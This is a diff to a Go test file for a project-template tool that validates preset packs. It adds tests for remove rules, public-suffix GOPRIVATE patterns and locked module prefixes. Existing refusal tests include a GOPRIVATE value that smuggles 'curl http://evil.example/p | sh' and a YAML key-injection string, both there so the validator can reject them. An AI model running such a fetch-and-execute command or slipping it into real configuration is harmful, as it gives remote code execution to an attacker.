@@ -184,6 +184,8 @@ func TestPackRefusals(t *testing.T) {
 			want: `p/preset.yaml:2:14: executable: "scripts/deploy.sh": want an overlay template's name`},
 		{name: "executable escaping the overlay", files: map[string]string{"p/preset.yaml": "name: p\nexecutable: [../x.tmpl]\n"}, want: `p/preset.yaml:2:14: executable: "../x.tmpl"`},
 		{name: "remove naming no built-in file", files: map[string]string{"p/preset.yaml": "name: p\nremove: [cmd/orders/main.go]\n"}, want: "p/preset.yaml:2:10: remove cmd/orders/main.go: no built-in file has that path"},
+		{name: "remove naming a file of an extended pack's overlay", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./base\nremove: [CODEOWNERS]\n", "p/base/preset.yaml": "name: base\n", "p/base/overlay/CODEOWNERS.tmpl": "* @acme/platform\n"},
+			want: "p/preset.yaml:3:10: remove CODEOWNERS: no built-in file has that path; the file comes from the overlay of a pack this one extends (p/base/overlay/CODEOWNERS.tmpl), which remove does not take: to leave it out, give this pack's overlay a CODEOWNERS.tmpl whose output is only white space"},
 		{name: "goprivate injection", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: \"x/*\\\"\\n  EVIL: \\\"injected\"\n"}, want: "p/preset.yaml:2:12: goprivate"},
 		{name: "goprivate shell", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: 'x.example/*; curl http://evil.example/p | sh'\n"}, want: "goprivate: pattern"},
 		{name: "leaving a locked module prefix", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./org\nmodule_prefix: github.com/someone-else\n", "p/org/preset.yaml": orgPack},
@@ -422,12 +424,15 @@ func TestCheckGoPrivate(t *testing.T) {
 		{"github.com/gin-gonic/*", "covers github.com/gin-gonic/gin, which generated projects fetch from the public module proxy"},
 		{"github.com/acme/*,github.com/KimMachineGun", `pattern "github.com/KimMachineGun" covers github.com/KimMachineGun/automemlimit`},
 		{"golang.org/x", "covers golang.org/x/"},
+		{"*.co.uk", "co.uk is a public suffix"},
+		{"gitlab.acme.example/*,*.com.au/x/*", "com.au is a public suffix"},
+		{"*.github.io", "github.io is a public suffix"},
 	} {
 		if err := CheckGoPrivate(tt.pattern); err == nil || !strings.Contains(err.Error(), tt.want) {
 			t.Errorf("CheckGoPrivate(%q) = %v, want %q", tt.pattern, err, tt.want)
 		}
 	}
-	for _, ok := range []string{"github.com/acme/*", "github.com/acme", "gitlab.com/acme/platform/*", "*.acme.example"} {
+	for _, ok := range []string{"github.com/acme/*", "github.com/acme", "gitlab.com/acme/platform/*", "*.acme.example", "*.acme.co.uk", "*.acme.github.io"} {
 		if err := CheckGoPrivate(ok); err != nil {
 			t.Errorf("CheckGoPrivate(%q) = %v", ok, err)
 		}
@@ -700,5 +705,38 @@ func TestReplacedMakefileDropsItsVersionTest(t *testing.T) {
 				t.Errorf("TestMakefileVersion rendered: %v, want %v", got, tt.want)
 			}
 		})
+	}
+}
+
+// TestLockedModulePrefixNamesWhere: a module outside a locked module_prefix is named at
+// the line that gave it (an answers file, a flag, the pack's own answers) and the pack
+// line that sets the prefix, as a contradicted locked answer is.
+func TestLockedModulePrefixNamesWhere(t *testing.T) {
+	dir := t.TempDir()
+	writeTree(t, dir, map[string]string{
+		"p/preset.yaml":     "name: p\nextends: ./org\nmodule_prefix: github.com/acme/team\n",
+		"p/org/preset.yaml": orgPack,
+		"own/preset.yaml":   "name: own\nmodule_prefix: gitlab.acme.example/svc\nanswers:\n  module: example.com/x/orders\nlocked: [module_prefix]\n",
+	})
+	file := answers.Layer{Source: answers.FromFile, Name: "ans.yaml"}
+	file.Set(answers.KeyModule, "example.com/x/orders", "ans.yaml:2:9")
+	tests := []struct {
+		pack   string
+		layers []answers.Layer
+		want   string
+	}{
+		{"./p", []answers.Layer{file}, `ans.yaml:2:9: invalid module "example.com/x/orders": preset p requires modules under github.com/acme/team/ (module_prefix is locked, p/preset.yaml:3:16)`},
+		{"./p", []answers.Layer{moduleLayer("example.com/x/orders")}, "--module: invalid module"},
+		{"./own", nil, `own/preset.yaml:4:11: invalid module "example.com/x/orders": preset own requires modules under gitlab.acme.example/svc/ (module_prefix is locked, own/preset.yaml:2:16)`},
+	}
+	for _, tt := range tests {
+		p, err := Resolver{Dir: dir}.Resolve(context.Background(), tt.pack)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, _, err = p.Resolve(tt.layers...)
+		if err == nil || !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("%s: Resolve = %v, want %q", tt.pack, err, tt.want)
+		}
 	}
 }
